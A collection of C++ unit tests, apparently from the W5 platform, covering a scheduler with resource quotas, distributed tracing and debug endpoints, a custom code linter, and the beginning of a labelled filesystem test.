  if (!allowlist.empty() && !linter.load_allowlist(allowlist)) {
    std::cerr << "w5lint: cannot read allowlist " << allowlist << "\n";
    return 2;
  }
  return linter.run();
}
