#include <gtest/gtest.h>

#include "os/scheduler.h"

namespace w5::os {
namespace {

using difc::LabelState;

TEST(ResourceContainerTest, ChargesWithinLimit) {
  ResourceContainer c("app", {.cpu_ticks = 100, .memory_bytes = 1000});
  EXPECT_TRUE(c.charge(Resource::kCpu, 60).ok());
  EXPECT_TRUE(c.charge(Resource::kCpu, 40).ok());
  EXPECT_FALSE(c.charge(Resource::kCpu, 1).ok());
  EXPECT_TRUE(c.exhausted(Resource::kCpu));
  EXPECT_FALSE(c.exhausted(Resource::kMemory));
  EXPECT_EQ(c.remaining(Resource::kCpu), 0);
  EXPECT_EQ(c.remaining(Resource::kMemory), 1000);
}

TEST(ResourceContainerTest, UnlimitedDimensionsNeverBind) {
  ResourceContainer c("free", {});  // all zero limits? No: defaults are 0.
  // Explicitly unlimited:
  ResourceContainer u("unlimited",
                      {kUnlimited, kUnlimited, kUnlimited, kUnlimited});
  EXPECT_TRUE(u.charge(Resource::kNetwork, 1 << 30).ok());
  EXPECT_EQ(u.remaining(Resource::kNetwork), kUnlimited);
  EXPECT_FALSE(u.exhausted(Resource::kDisk));
}

TEST(ResourceContainerTest, ZeroLimitMeansNoBudget) {
  ResourceContainer c("zero", {.cpu_ticks = 0});
  EXPECT_FALSE(c.charge(Resource::kCpu, 1).ok());
  EXPECT_TRUE(c.exhausted(Resource::kCpu));
}

TEST(ResourceContainerTest, HierarchicalChargingIsAtomic) {
  ResourceContainer parent("app", {.network_bytes = 100});
  ResourceContainer child("request",
                          {kUnlimited, kUnlimited, kUnlimited, kUnlimited},
                          &parent);
  EXPECT_TRUE(child.charge(Resource::kNetwork, 80).ok());
  // Child has headroom (unlimited) but parent binds; charge fails and
  // neither usage moves.
  const auto before_child = child.usage();
  const auto before_parent = parent.usage();
  const auto status = child.charge(Resource::kNetwork, 30);
  EXPECT_FALSE(status.ok());
  EXPECT_EQ(status.error().code, "quota.exceeded");
  EXPECT_NE(status.error().detail.find("'app'"), std::string::npos);
  EXPECT_EQ(child.usage(), before_child);
  EXPECT_EQ(parent.usage(), before_parent);
  EXPECT_EQ(child.remaining(Resource::kNetwork), 20);
}

TEST(ResourceContainerTest, ReleaseReturnsMemory) {
  ResourceContainer parent("app", {.memory_bytes = 100});
  ResourceContainer child("req", {.memory_bytes = 60}, &parent);
  EXPECT_TRUE(child.charge(Resource::kMemory, 60).ok());
  EXPECT_FALSE(child.charge(Resource::kMemory, 1).ok());
  child.release(Resource::kMemory, 60);
  EXPECT_EQ(parent.usage().memory_bytes, 0);
  EXPECT_TRUE(child.charge(Resource::kMemory, 60).ok());
  // Releasing more than charged clamps to zero.
  child.release(Resource::kMemory, 1000);
  EXPECT_EQ(child.usage().memory_bytes, 0);
}

TEST(SchedulerTest, RoundRobinRunsTasksToCompletion) {
  Kernel kernel;
  Scheduler sched(kernel);
  int a_steps = 0, b_steps = 0;
  sched.submit("a", kKernelPid, [&] { return ++a_steps == 3; });
  sched.submit("b", kKernelPid, [&] { return ++b_steps == 5; });
  const auto ticks = sched.run(100);
  EXPECT_EQ(a_steps, 3);
  EXPECT_EQ(b_steps, 5);
  EXPECT_EQ(ticks, 8);
  EXPECT_EQ(sched.ready_count(), 0u);
}

TEST(SchedulerTest, OverQuotaTaskIsKilledOthersProceed) {
  Kernel kernel;
  ResourceContainer hog_box("hog", {.cpu_ticks = 10});
  const Pid hog_pid =
      kernel.spawn_trusted("hog", LabelState({}, {}, {}), &hog_box);
  const Pid victim_pid = kernel.spawn_trusted("victim", LabelState({}, {}, {}),
                                              nullptr);

  Scheduler sched(kernel);
  int hog_steps = 0, victim_steps = 0;
  const auto hog_id =
      sched.submit("hog", hog_pid, [&] { return ++hog_steps >= 1000000; });
  const auto victim_id = sched.submit("victim", victim_pid,
                                      [&] { return ++victim_steps == 50; });
  sched.run(10000);

  EXPECT_EQ(victim_steps, 50);  // victim unaffected
  EXPECT_EQ(sched.info(victim_id)->state, TaskState::kDone);
  EXPECT_EQ(sched.info(hog_id)->state, TaskState::kKilled);
  EXPECT_EQ(hog_steps, 10);  // got exactly its budget
  EXPECT_EQ(kernel.find(hog_pid)->status, ProcessStatus::kKilled);
}

TEST(SchedulerTest, RunStopsAtTickBudget) {
  Kernel kernel;
  Scheduler sched(kernel);
  int steps = 0;
  sched.submit("endless", kKernelPid, [&] {
    ++steps;
    return false;
  });
  const auto used = sched.run(25);
  EXPECT_EQ(used, 25);
  EXPECT_EQ(steps, 25);
  EXPECT_EQ(sched.ready_count(), 1u);  // still runnable
}

TEST(SchedulerTest, SnapshotReportsAccounting) {
  Kernel kernel;
  Scheduler sched(kernel);
  sched.submit("t1", kKernelPid, [] { return true; });
  sched.submit("t2", kKernelPid, [] { return true; });
  sched.run(10);
  const auto tasks = sched.snapshot();
  ASSERT_EQ(tasks.size(), 2u);
  EXPECT_EQ(tasks[0].name, "t1");
  EXPECT_EQ(tasks[0].ticks_used, 1);
  EXPECT_EQ(tasks[1].state, TaskState::kDone);
}

}  // namespace
}  // namespace w5::os
