// Cross-hop distributed tracing and the flight-recorder debug plane
// (DESIGN.md §16): the X-W5-Spans wire codec, span-tree ordinals,
// TraceBuffer eviction/204 semantics, Prometheus label escaping and
// exemplars, /debug/statusz and /debug/slowlog, two-provider stitched
// traces through federation, and seeded chaos determinism.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "core/flight_recorder.h"
#include "core/provider.h"
#include "core/statusz.h"
#include "core/trace.h"
#include "fed/node.h"
#include "net/fault.h"
#include "net/tracing.h"
#include "util/metrics.h"

namespace w5 {
namespace {

using net::Method;
using platform::Provider;
using platform::ProviderConfig;
using platform::RequestContext;
using platform::ScopedSpan;
using platform::Trace;
using platform::TraceBuffer;
using platform::TraceSpan;

// ---- Wire codec -------------------------------------------------------------

TEST(TraceWire, SanitizerKeepsCharsetOnly) {
  EXPECT_EQ(platform::sanitize_telemetry_token("store.get/x=1-ok_"),
            "store.get/x=1-ok_");
  EXPECT_EQ(platform::sanitize_telemetry_token("has space;semi\"quote"),
            "has_space_semi_quote");
  EXPECT_EQ(platform::sanitize_telemetry_token(std::string(100, 'a'), 8),
            "aaaaaaaa");
}

TEST(TraceWire, EncodeDecodeRoundTrip) {
  Trace trace;
  trace.id = "roundtrip-1";
  trace.sampled = true;
  trace.started = 1'000'000;
  TraceSpan parent;
  parent.name = "flow-check";
  parent.start = 1'000'100;
  parent.duration = 50;
  parent.id = 1;
  parent.note = "tags=2";
  TraceSpan child;
  child.name = "store.get";
  child.start = 1'000'120;
  child.duration = 20;
  child.id = 2;
  child.parent = 1;
  trace.spans = {parent, child};

  const std::string wire = platform::encode_spans_for_wire(trace);
  ASSERT_FALSE(wire.empty());
  const auto decoded = platform::decode_remote_spans(wire, "peerA");
  ASSERT_EQ(decoded.size(), 2u);
  EXPECT_EQ(decoded[0].name, "flow-check");
  EXPECT_EQ(decoded[0].start, 100);  // offset from the remote request start
  EXPECT_EQ(decoded[0].duration, 50);
  EXPECT_EQ(decoded[0].note, "tags=2");
  EXPECT_EQ(decoded[0].remote, "peerA");
  EXPECT_EQ(decoded[1].parent, 1u);
  EXPECT_EQ(decoded[1].remote, "peerA");
}

TEST(TraceWire, UnsampledTraceEncodesNothing) {
  Trace trace;
  trace.id = "quiet";
  trace.sampled = false;
  trace.spans.push_back(TraceSpan{.name = "app"});
  EXPECT_EQ(platform::encode_spans_for_wire(trace), "");
}

TEST(TraceWire, DecodeRejectsMalformedAndHostileEntries) {
  // Missing fields, non-numeric ids, and empty names are skipped; hostile
  // bytes in surviving fields are sanitized, never trusted.
  const auto decoded = platform::decode_remote_spans(
      "garbage|1;0;10;5;ok name;no\"te;|;;;;;;|2;zzz;1;1;x;;", "peer;evil");
  ASSERT_EQ(decoded.size(), 1u);
  EXPECT_EQ(decoded[0].name, "ok_name");
  EXPECT_EQ(decoded[0].note, "no_te");
  EXPECT_EQ(decoded[0].remote, "peer_evil");
}

// ---- Span tree ordinals -----------------------------------------------------

TEST(SpanTree, ScopedSpansRecordParentChildEdges) {
  if (!util::kTelemetryEnabled) return;
  Trace trace;
  {
    RequestContext context("tree-test-1");  // inherited id → spans on
    ASSERT_TRUE(context.spans_enabled());
    {
      ScopedSpan outer("app");
      {
        ScopedSpan inner("store.get");
        ScopedSpan sibling_of_nobody("declassify");
      }
    }
    { ScopedSpan late("serialize"); }
    trace = context.finish();
  }
  ASSERT_EQ(trace.spans.size(), 4u);
  const auto find = [&](const std::string& name) -> const TraceSpan& {
    const auto it =
        std::find_if(trace.spans.begin(), trace.spans.end(),
                     [&](const TraceSpan& s) { return s.name == name; });
    EXPECT_NE(it, trace.spans.end()) << name;
    return *it;
  };
  const TraceSpan& outer = find("app");
  const TraceSpan& inner = find("store.get");
  const TraceSpan& nested = find("declassify");
  const TraceSpan& late = find("serialize");
  EXPECT_NE(outer.id, 0u);
  EXPECT_EQ(outer.parent, 0u);  // direct child of the request root
  EXPECT_EQ(inner.parent, outer.id);
  EXPECT_EQ(nested.parent, inner.id);
  EXPECT_EQ(late.parent, 0u);  // parent restored after the app subtree
  EXPECT_TRUE(trace.sampled);
}

// ---- TraceBuffer eviction and late-span accounting --------------------------

TEST(TraceBufferLookup, DistinguishesEvictedFromUnknown) {
  TraceBuffer buffer(2);
  for (int i = 0; i < 3; ++i) {
    Trace trace;
    trace.id = "trace-" + std::to_string(i);
    buffer.record(std::move(trace));
  }
  Trace out;
  EXPECT_EQ(buffer.lookup("trace-2", &out), TraceBuffer::Lookup::kFound);
  EXPECT_EQ(out.id, "trace-2");
  EXPECT_EQ(buffer.lookup("trace-0", &out), TraceBuffer::Lookup::kEvicted);
  EXPECT_EQ(buffer.lookup("never-seen", &out), TraceBuffer::Lookup::kUnknown);
}

TEST(TraceBufferLookup, AppendSpansCountsDropsOnEviction) {
  TraceBuffer buffer(2);
  Trace sampled;
  sampled.id = "alive";
  sampled.sampled = true;
  buffer.record(std::move(sampled));

  std::vector<TraceSpan> spans(2);
  spans[0].name = "stage.parse";
  spans[1].name = "stage.write";
  EXPECT_TRUE(buffer.append_spans("alive", spans));
  EXPECT_EQ(buffer.dropped(), 0u);
  Trace out;
  ASSERT_EQ(buffer.lookup("alive", &out), TraceBuffer::Lookup::kFound);
  EXPECT_EQ(out.spans.size(), 2u);

  // Spans arriving after the trace has aged out are counted, not lost
  // silently — w5_trace_dropped_total is the slot-exhaustion signal.
  EXPECT_FALSE(buffer.append_spans("gone", spans));
  EXPECT_EQ(buffer.dropped(), 2u);

  // An unsampled resident trace intentionally has no spans; late stage
  // spans for it are suppressed without touching the dropped counter.
  Trace quiet;
  quiet.id = "quiet";
  buffer.record(std::move(quiet));
  EXPECT_FALSE(buffer.append_spans("quiet", spans));
  EXPECT_EQ(buffer.dropped(), 2u);

  // Eviction of a *sampled* trace counts its spans as dropped too.
  Trace evictor;
  evictor.id = "evictor";
  buffer.record(std::move(evictor));  // ring cap 2: evicts "alive" (2 spans)
  EXPECT_EQ(buffer.dropped(), 4u);
}

// ---- Prometheus escaping and exemplars --------------------------------------

TEST(MetricsExposition, EscapesLabelValues) {
  util::MetricsRegistry registry;
  registry.counter("t_esc{peer=\"quote\"back\\slash\nnewline\"}").inc(1);
  registry.gauge("t_esc_gauge{a=\"x\",b=\"y\"}").set(2);
  const std::string text = registry.to_prometheus();
  if (!util::kTelemetryEnabled) return;
  // The rendered label value escapes backslash, quote, and newline per
  // the exposition format; the raw forms must not appear.
  EXPECT_NE(text.find("t_esc{peer=\"quote\\\"back\\\\slash\\nnewline\"} 1"),
            std::string::npos)
      << text;
  EXPECT_EQ(text.find("slash\nnewline"), std::string::npos) << text;
  EXPECT_NE(text.find("t_esc_gauge{a=\"x\",b=\"y\"} 2"), std::string::npos)
      << text;
}

TEST(MetricsExposition, HistogramExemplarCarriesTraceId) {
  util::MetricsRegistry registry;
  util::Histogram& latency = registry.histogram("t_lat", {10, 100});
  latency.observe_with_exemplar(500, "abc123def456");
  latency.observe(5);
  const std::string text = registry.to_prometheus();
  if (!util::kTelemetryEnabled) return;
  // The +Inf bucket (where 500 landed) carries the trace exemplar.
  EXPECT_NE(text.find("# {trace_id=\"abc123def456\"} 500"), std::string::npos)
      << text;
  const auto exemplars = latency.exemplars();
  ASSERT_EQ(exemplars.size(), 3u);  // 2 finite buckets + Inf
  EXPECT_EQ(exemplars[2].ref, "abc123def456");
  EXPECT_EQ(exemplars[2].value, 500);
  EXPECT_TRUE(exemplars[0].ref.empty());  // plain observe leaves none
}

// ---- Flight recorder --------------------------------------------------------

TEST(FlightRecorderTest, RingUpsertsAndDumpsNewestFirst) {
  platform::FlightRecorder recorder(2);
  for (int i = 0; i < 3; ++i) {
    Trace trace;
    trace.id = "slow-" + std::to_string(i);
    trace.duration = 100 + i;
    recorder.record(std::move(trace));
  }
  EXPECT_EQ(recorder.size(), 2u);
  EXPECT_EQ(recorder.recorded(), 3u);
  util::Json dump = recorder.to_json();
  const auto& entries = dump.at("entries").as_array();
  ASSERT_EQ(entries.size(), 2u);
  EXPECT_EQ(entries[0].at("id").as_string(), "slow-2");  // newest first
  EXPECT_EQ(entries[1].at("id").as_string(), "slow-1");

  // Re-recording an id (late spans arrived) replaces in place.
  Trace again;
  again.id = "slow-2";
  again.duration = 999;
  recorder.record(std::move(again));
  EXPECT_EQ(recorder.size(), 2u);
  dump = recorder.to_json();
  EXPECT_EQ(dump.at("entries").as_array()[0].at("duration_micros").as_int(),
            999);
}

// ---- Debug endpoints through the gateway ------------------------------------

class DebugPlaneTest : public ::testing::Test {
 protected:
  static ProviderConfig slow_config() {
    ProviderConfig config;
    config.slow_request_micros = 1;  // everything is "slow"
    return config;
  }

  void SetUp() override {
    ASSERT_TRUE(provider_.signup("alice", "password1").ok());
    alice_ = provider_.login("alice", "password1").value();
  }

  util::WallClock clock_;
  Provider provider_{slow_config(), clock_};
  std::string alice_;
};

TEST_F(DebugPlaneTest, StatuszAggregatesInfrastructureState) {
  const auto response =
      provider_.http(Method::kGet, "/debug/statusz", "", alice_);
  ASSERT_EQ(response.status, 200);
  auto parsed = util::Json::parse(response.body);
  ASSERT_TRUE(parsed.ok()) << response.body;
  const util::Json& statusz = parsed.value();
  EXPECT_EQ(statusz.at("provider").as_string(), "w5.org");
  EXPECT_EQ(statusz.at("serving").at("mode").as_string(), "event_loop");
  EXPECT_TRUE(statusz.at("build").contains("compiled"));
  EXPECT_TRUE(statusz.at("durability").contains("enabled"));
  EXPECT_TRUE(statusz.at("fed_breakers").is_object());
  ASSERT_TRUE(statusz.at("reactor_loops").is_array());
  EXPECT_EQ(statusz.at("reactor_loops").as_array().size(), 1u);
  EXPECT_TRUE(statusz.at("tracing").contains("spans_dropped"));
}

TEST_F(DebugPlaneTest, SlowlogCapturesSlowRequestsWithSpans) {
  if (!util::kTelemetryEnabled) return;
  // A forced-sample request above the (1 µs) threshold must land in the
  // flight recorder with its span dump intact.
  net::HttpRequest request;
  request.method = Method::kGet;
  request.target = "/whoami";
  request.parsed = *net::parse_request_target("/whoami");
  request.headers.set("Cookie",
                      std::string(platform::kSessionCookie) + "=" + alice_);
  request.headers.set("X-W5-Trace", "slowlog-probe-1");
  ASSERT_EQ(provider_.handle(request).status, 200);

  const auto response =
      provider_.http(Method::kGet, "/debug/slowlog", "", alice_);
  ASSERT_EQ(response.status, 200);
  auto parsed = util::Json::parse(response.body);
  ASSERT_TRUE(parsed.ok());
  EXPECT_EQ(parsed.value().at("threshold_micros").as_int(), 1);
  const auto& entries = parsed.value().at("entries").as_array();
  ASSERT_FALSE(entries.empty());
  bool found = false;
  for (const auto& entry : entries)
    if (entry.at("id").as_string() == "slowlog-probe-1") found = true;
  EXPECT_TRUE(found);
}

TEST_F(DebugPlaneTest, TraceLookupReturns204ForEvictedIds) {
  if (!util::kTelemetryEnabled) return;
  Trace known;
  known.id = "evict-me-1";
  provider_.traces().record(std::move(known));
  for (std::size_t i = 0; i < TraceBuffer::kDefaultCapacity; ++i) {
    Trace filler;
    filler.id = "filler-" + std::to_string(i);
    provider_.traces().record(std::move(filler));
  }
  EXPECT_EQ(
      provider_.http(Method::kGet, "/trace/evict-me-1", "", alice_).status,
      204);
  EXPECT_EQ(
      provider_.http(Method::kGet, "/trace/never-seen", "", alice_).status,
      404);
  // The dropped counter is exported alongside the other trace gauges.
  const auto metrics =
      provider_.http(Method::kGet, "/metrics", "", alice_).body;
  EXPECT_NE(metrics.find("w5_trace_dropped_total"), std::string::npos);
}

// ---- Cross-hop stitching through federation ---------------------------------

class FedTracingTest : public ::testing::Test {
 protected:
  FedTracingTest()
      : provider_a_(ProviderConfig{.name = "providerA"}, clock_),
        provider_b_(ProviderConfig{.name = "providerB"}, clock_),
        node_a_("providerA", provider_a_, network_),
        node_b_("providerB", provider_b_, network_) {}

  void SetUp() override {
    ASSERT_TRUE(provider_a_.signup("bob", "pwd").ok());
    ASSERT_TRUE(provider_b_.signup("bob", "pwd").ok());
    node_a_.mirrors().authorize("bob", "providerB");
    node_b_.mirrors().authorize("bob", "providerA");
    util::Json photo;
    photo["title"] = "sunset";
    ASSERT_TRUE(node_a_.put_user_record("bob", "photos", "p1", photo).ok());
  }

  util::WallClock clock_;
  net::InMemoryNetwork network_;
  platform::Provider provider_a_;
  platform::Provider provider_b_;
  fed::Node node_a_;
  fed::Node node_b_;
};

TEST_F(FedTracingTest, SyncProducesStitchedTreeAcrossProviders) {
  if (!util::kTelemetryEnabled) return;
  Trace trace;
  {
    RequestContext context("stitch-probe-1");  // forced sampling
    auto stats = node_b_.sync_from("providerA");
    ASSERT_TRUE(stats.ok()) << stats.error().code;
    EXPECT_EQ(stats.value().applied, 1u);
    trace = context.finish();
  }
  // One tree: the local fed.pull hop span plus the peer's serving spans
  // stitched under it, each stamped remote="providerA".
  const TraceSpan* hop = nullptr;
  std::vector<const TraceSpan*> remote_spans;
  for (const TraceSpan& span : trace.spans) {
    if (span.name == "fed.pull" && span.remote.empty()) hop = &span;
    if (!span.remote.empty()) remote_spans.push_back(&span);
  }
  ASSERT_NE(hop, nullptr);
  EXPECT_NE(hop->note.find("peer=providerA"), std::string::npos);
  ASSERT_FALSE(remote_spans.empty());
  std::vector<std::string> remote_names;
  for (const TraceSpan* span : remote_spans) {
    EXPECT_EQ(span->remote, "providerA");
    // Remote offsets rebase onto the hop start: every stitched span lands
    // at-or-after the hop began.
    EXPECT_GE(span->start, hop->start);
    remote_names.push_back(span->name);
  }
  EXPECT_NE(std::find(remote_names.begin(), remote_names.end(), "fed.consent"),
            remote_names.end());
  EXPECT_NE(std::find(remote_names.begin(), remote_names.end(), "fed.export"),
            remote_names.end());
  // Remote roots hang under the hop span (remapped into local ordinals).
  for (const TraceSpan* span : remote_spans) {
    if (span->name == "fed.consent" || span->name == "fed.export") {
      EXPECT_EQ(span->parent, hop->id);
    }
  }

  // The peer recorded the same trace id on its side: /trace/:id resolves
  // on both providers, route "fed.pull" over there.
  Trace peer_side;
  ASSERT_EQ(provider_a_.traces().lookup("stitch-probe-1", &peer_side),
            TraceBuffer::Lookup::kFound);
  EXPECT_EQ(peer_side.route, "fed.pull");
  EXPECT_EQ(peer_side.parent_span, std::to_string(hop->id));
}

TEST_F(FedTracingTest, UnauthorizedPullYieldsOrphanMarkedHopSpan) {
  if (!util::kTelemetryEnabled) return;
  node_a_.mirrors().revoke("bob", "providerB");  // peer-side consent gone
  Trace trace;
  {
    RequestContext context("orphan-probe-1");
    auto stats = node_b_.sync_from("providerA");
    EXPECT_FALSE(stats.ok());
    trace = context.finish();
  }
  const auto hop = std::find_if(
      trace.spans.begin(), trace.spans.end(), [](const TraceSpan& span) {
        return span.name == "fed.pull" && span.remote.empty();
      });
  ASSERT_NE(hop, trace.spans.end());
  EXPECT_NE(hop->note.find("err=fed.pull_failed"), std::string::npos)
      << hop->note;
}

// Chaos determinism: the same seed yields the same stitched-or-orphaned
// outcome, span for span. FaultSchedule::seeded drives delays, short
// reads, and resets through the connection decorator on the dialer side.
TEST_F(FedTracingTest, SeededChaosSyncIsDeterministic) {
  if (!util::kTelemetryEnabled) return;
  struct Outcome {
    bool ok = false;
    std::string error_code;
    std::vector<std::string> span_names;  // name + remote, in order
  };
  const auto run_once = [](std::uint64_t seed) {
    util::WallClock clock;
    net::InMemoryNetwork network;
    platform::Provider provider_a(ProviderConfig{.name = "providerA"}, clock);
    platform::Provider provider_b(ProviderConfig{.name = "providerB"}, clock);
    fed::Node node_a("providerA", provider_a, network);
    fed::Node node_b("providerB", provider_b, network);
    EXPECT_TRUE(provider_a.signup("bob", "pwd").ok());
    EXPECT_TRUE(provider_b.signup("bob", "pwd").ok());
    node_a.mirrors().authorize("bob", "providerB");
    node_b.mirrors().authorize("bob", "providerA");
    util::Json photo;
    photo["title"] = "sunset";
    EXPECT_TRUE(node_a.put_user_record("bob", "photos", "p1", photo).ok());
    net::FaultSchedule::Profile profile;
    profile.short_read_probability = 0.3;
    profile.reset_probability = 0.1;
    profile.delay_probability = 0.2;
    profile.min_delay_micros = 1;
    profile.max_delay_micros = 10;
    node_b.set_connection_decorator(
        [seed, profile](std::unique_ptr<net::Connection> inner) {
          return std::make_unique<net::FaultyConnection>(
              std::move(inner), net::FaultSchedule::seeded(seed, profile));
        });
    Outcome outcome;
    {
      RequestContext context("chaos-probe-1");
      auto stats = node_b.sync_from("providerA");
      outcome.ok = stats.ok();
      if (!stats.ok()) outcome.error_code = stats.error().code;
      for (const TraceSpan& span : context.finish().spans)
        outcome.span_names.push_back(span.name + "@" + span.remote);
    }
    return outcome;
  };
  for (const std::uint64_t seed : {7ull, 42ull, 1337ull}) {
    const Outcome first = run_once(seed);
    const Outcome second = run_once(seed);
    EXPECT_EQ(first.ok, second.ok) << "seed " << seed;
    EXPECT_EQ(first.error_code, second.error_code) << "seed " << seed;
    EXPECT_EQ(first.span_names, second.span_names) << "seed " << seed;
    // Whatever the faults did, the trace is coherent: either the hop
    // stitched remote spans in, or the hop span carries an err= marker.
    const bool stitched =
        std::any_of(first.span_names.begin(), first.span_names.end(),
                    [](const std::string& name) {
                      return name.ends_with("@providerA");
                    });
    EXPECT_TRUE(first.ok ? stitched : true);
  }
}

}  // namespace
}  // namespace w5
