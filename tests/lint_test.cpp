// Tests for tools/w5lint.cpp: the real src/ tree must pass clean, and
// each seeded fixture under tests/lint_fixtures/ must trip exactly the
// check its name promises. Paths come in as compile definitions from
// tests/CMakeLists.txt, so the test exercises the same binary and the
// same allowlist that the ci.sh `lint` stage runs.

#include <gtest/gtest.h>

#include <array>
#include <cstdio>
#include <string>

namespace {

struct LintResult {
  int exit_code = -1;
  std::string output;
};

LintResult run_lint(const std::string& root, const std::string& allowlist = "") {
  std::string cmd = std::string(W5LINT_BINARY) + " " + root;
  if (!allowlist.empty()) cmd += " --allowlist " + allowlist;
  cmd += " 2>&1";
  LintResult result;
  FILE* pipe = popen(cmd.c_str(), "r");
  if (pipe == nullptr) return result;
  std::array<char, 512> chunk;
  while (fgets(chunk.data(), chunk.size(), pipe) != nullptr)
    result.output += chunk.data();
  const int status = pclose(pipe);
  result.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  return result;
}

std::string fixture(const std::string& name) {
  return std::string(W5_LINT_FIXTURES_DIR) + "/" + name;
}

TEST(LintTest, CleanTreePasses) {
  const LintResult r = run_lint(W5_SRC_DIR, W5_ALLOWLIST_FILE);
  EXPECT_EQ(r.exit_code, 0) << r.output;
  EXPECT_NE(r.output.find("0 violation(s)"), std::string::npos) << r.output;
}

TEST(LintTest, FlagsLayeringBackEdge) {
  const LintResult r = run_lint(fixture("layering"));
  EXPECT_EQ(r.exit_code, 1) << r.output;
  EXPECT_NE(r.output.find("[layering]"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("difc/bad_backedge.cpp"), std::string::npos)
      << r.output;
  // The util/json.h include in the same file is a legal edge — exactly
  // one violation expected.
  EXPECT_NE(r.output.find("1 violation(s)"), std::string::npos) << r.output;
}

TEST(LintTest, FlagsAppsReachingMetasearchDirectly) {
  // PR 9 pinned the metasearch layering rule: fed/ gained store/ and
  // rank/ edges, but apps/ still has no fed/ edge — apps reach the
  // scatter/gather plane only via the core-owned FederatedSearchFn seam.
  const LintResult r = run_lint(fixture("metasearch_layering"));
  EXPECT_EQ(r.exit_code, 1) << r.output;
  EXPECT_NE(r.output.find("[layering]"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("apps/bad_fed_reach.cpp"), std::string::npos)
      << r.output;
  EXPECT_NE(r.output.find("fed/metasearch.h"), std::string::npos) << r.output;
  // The core/app_context.h include in the same file is the legal route —
  // exactly one violation expected.
  EXPECT_NE(r.output.find("1 violation(s)"), std::string::npos) << r.output;
}

TEST(LintTest, FlagsRawSendOutsidePerimeter) {
  const LintResult r = run_lint(fixture("perimeter_send"));
  EXPECT_EQ(r.exit_code, 1) << r.output;
  EXPECT_NE(r.output.find("[perimeter]"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("::send"), std::string::npos) << r.output;
}

TEST(LintTest, FlagsRawEventCallsOutsidePerimeter) {
  const LintResult r = run_lint(fixture("event_plane"));
  EXPECT_EQ(r.exit_code, 1) << r.output;
  EXPECT_NE(r.output.find("[event]"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("::epoll_wait"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("::accept"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("3 violation(s)"), std::string::npos) << r.output;
}

TEST(LintTest, FlagsGatewayBypassInclude) {
  const LintResult r = run_lint(fixture("perimeter_gateway"));
  EXPECT_EQ(r.exit_code, 1) << r.output;
  // Trips both the named perimeter rule and the layering DAG (apps/ has
  // no edge to net/).
  EXPECT_NE(r.output.find("[perimeter]"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("net/http_server.h"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("[layering]"), std::string::npos) << r.output;
}

TEST(LintTest, FlagsTelemetryRecordInclude) {
  const LintResult r = run_lint(fixture("telemetry"));
  EXPECT_EQ(r.exit_code, 1) << r.output;
  EXPECT_NE(r.output.find("[telemetry]"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("store/record.h"), std::string::npos) << r.output;
  // The §16 debug/trace surfaces are inside the rule too: a new debug
  // route or trace file can never include record bytes.
  EXPECT_NE(r.output.find("core/trace.cpp"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("core/statusz.cpp"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("net/tracing.cpp"), std::string::npos) << r.output;
}

TEST(LintTest, FlagsBannedFunctionsAndHeaderUsing) {
  const LintResult r = run_lint(fixture("banned"));
  EXPECT_EQ(r.exit_code, 1) << r.output;
  EXPECT_NE(r.output.find("[banned]"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("strcpy"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("rand"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("using namespace"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("3 violation(s)"), std::string::npos) << r.output;
}

TEST(LintTest, AllowlistSuppressesByCheckAndPrefix) {
  // Without the allowlist the breach fires...
  const LintResult unsuppressed = run_lint(fixture("allowlisted"));
  EXPECT_EQ(unsuppressed.exit_code, 1) << unsuppressed.output;
  // ...with it, the same tree is clean and the suppression is counted.
  const LintResult suppressed =
      run_lint(fixture("allowlisted"), fixture("allowlisted") + "/allow.txt");
  EXPECT_EQ(suppressed.exit_code, 0) << suppressed.output;
  EXPECT_NE(suppressed.output.find("1 suppressed"), std::string::npos)
      << suppressed.output;
}

TEST(LintTest, StaleAllowlistEntryIsItselfAnError) {
  // The allowlisted/ fixture's entry suppresses a ::send breach that the
  // banned/ tree does not contain — an entry that suppresses nothing is
  // reported against the allowlist file, so excused violations cannot
  // quietly outlive their excuse.
  const LintResult r =
      run_lint(fixture("banned"), fixture("allowlisted") + "/allow.txt");
  EXPECT_EQ(r.exit_code, 1) << r.output;
  EXPECT_NE(r.output.find("[stale-allow]"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("suppressed nothing"), std::string::npos)
      << r.output;
  EXPECT_NE(r.output.find("allow.txt"), std::string::npos) << r.output;
}

TEST(LintTest, BadUsageExitsTwo) {
  const LintResult r = run_lint(std::string(W5_SRC_DIR) + "/no/such/dir");
  EXPECT_EQ(r.exit_code, 2) << r.output;
}

}  // namespace
