#include <gtest/gtest.h>

#include "os/filesystem.h"

namespace w5::os {
namespace {

using difc::CapabilitySet;
using difc::Label;
using difc::LabelState;
using difc::minus;
using difc::ObjectLabels;
using difc::plus;
using difc::Tag;
using difc::TagPurpose;

class FileSystemTest : public ::testing::Test {
 protected:
  FileSystemTest() : fs_(kernel_) {
    sec_bob_ =
        kernel_.create_tag(kKernelPid, "sec(bob)", TagPurpose::kSecrecy)
            .value();
    wp_bob_ =
        kernel_.create_tag(kKernelPid, "wp(bob)", TagPurpose::kIntegrity)
            .value();
    kernel_.add_global_capability(plus(sec_bob_));
    // The provider's trusted setup code creates per-user homes.
    EXPECT_TRUE(fs_.mkdir(kKernelPid, "/users", {}).ok());
    EXPECT_TRUE(fs_.mkdir(kKernelPid, "/users/bob",
                          ObjectLabels{{}, {}})
                    .ok());
    EXPECT_TRUE(fs_.create(kKernelPid, "/users/bob/diary.txt",
                           ObjectLabels{Label{sec_bob_}, Label{wp_bob_}},
                           "dear diary")
                    .ok());
  }

  Kernel kernel_;
  FileSystem fs_;
  Tag sec_bob_;
  Tag wp_bob_;
};

TEST_F(FileSystemTest, KernelReadsEverything) {
